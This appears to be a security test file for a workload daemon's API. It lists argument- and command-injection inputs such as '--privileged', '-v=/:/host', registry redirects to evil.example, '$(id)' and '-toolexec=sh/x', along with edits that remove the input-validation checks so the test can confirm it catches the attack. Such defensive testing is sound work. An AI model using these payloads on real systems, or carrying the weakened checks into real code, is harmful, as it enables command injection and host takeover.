import { describeAttack } from '../src/attacks/describe-attack.ts'
import { makeHome } from '../src/home.ts'
import { rawCall } from '../src/raw-call.ts'

/** Each would be an option, a second argument or a second line for a program behind the daemon. */
const IMAGES = [
  '--privileged',
  '-v=/:/host',
  'npx://--registry=http://evil.example',
  'npx://-g',
  'npx://name --script-shell=sh',
  'npx://name@--global',
  'npx://name@file:../evil',
  'npx://name\n--global',
  'uvx://--index-url=http://evil.example',
  'uvx://name@1.0 --with evil',
  'go://-toolexec=sh/x',
  'go://example.com/x@-mod=mod',
  'name:tag\u0000',
  'name;id',
  'name$(id)',
]

const NAMES = ['-rf', '--all', '--help', 'a b', 'a\nb', 'a;id', '$(id)', '`id`']

describeAttack('an image or a name that is an option to the program behind', {
  defence: 'the grammar of images, packages and names, and the check of characters',
  weaknesses: [
    {
      file: 'packages/contract/src/text.ts',
      find: "text.includes('\\0')",
      replace: 'false',
    },
    {
      file: 'packages/core/src/workloads/config/image-reference.ts',
      find: 'if (text.length > 512 || !REFERENCE.test(text)) {',
      replace: 'if (text.length > 512) {',
    },
    {
      file: 'packages/core/src/workloads/config/package-reference.ts',
      find: 'if (name.length <= MAX_NAME_LENGTH && names.test(name)) return',
      replace: 'if (names) return',
    },
    {
      file: 'packages/core/src/workloads/config/package-reference.ts',
      find: 'if (version.length <= MAX_VERSION_LENGTH && versions.test(version)) return',
      replace: 'if (versions) return',
    },
    {
      file: 'packages/contract/src/names.ts',
      find: '/^[A-Za-z0-9][A-Za-z0-9._-]{0,99}$/,',
      replace: '/^[^]{1,100}$/,',
    },
    {
      file: 'packages/stores/src/files/record-store.ts',
      find: "if (!/^[a-z0-9][a-z0-9._-]{0,99}$/.test(stem) || stem.includes('..')) {",
      replace: "if (stem.includes('/')) {",
    },
  ],
  attack: async (build) => {
    // Nobody answers there: it is enough that the text is treated as a request.
    await using home = await makeHome({ env: { THV_RUNTIME: 'process', npm_config_registry: 'http://127.0.0.1:9' } })
    await using daemon = await build.start(home)
    const gains: Record<string, boolean> = {}
    const create = async (what: string, body: object) => {
      const headers = { 'content-type': 'application/json' }
      const call = { method: 'POST', headers, body: JSON.stringify(body) }
      const { status } = await rawCall(daemon, '/api/v1beta/workloads', call)
      gains[`${what} ${JSON.stringify(body)}`] = status === 201
    }
    for (const [at, image] of IMAGES.entries()) await create('is taken:', { name: `image-${at}`, image })
    for (const name of NAMES) await create('is taken:', { name, url: 'http://127.0.0.1:9/mcp' })
    return gains
  },
})
